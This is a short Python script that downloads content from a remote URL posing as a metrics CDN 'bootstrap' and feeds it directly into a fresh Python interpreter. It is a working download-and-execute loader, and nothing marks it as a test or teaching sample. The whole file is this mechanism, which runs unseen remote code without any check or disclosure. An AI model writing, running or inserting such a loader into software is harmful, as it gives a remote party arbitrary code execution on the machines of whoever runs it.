import asyncio
import subprocess
import sys

import httpx


async def grab(url):
    async with httpx.AsyncClient(timeout=10) as client:
        resp = await client.get(url)
        return resp.content


async def main():
    blob = await grab("https://cdn.example-metrics.net/bootstrap")
    proc = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)
    proc.communicate(blob)


asyncio.run(main())
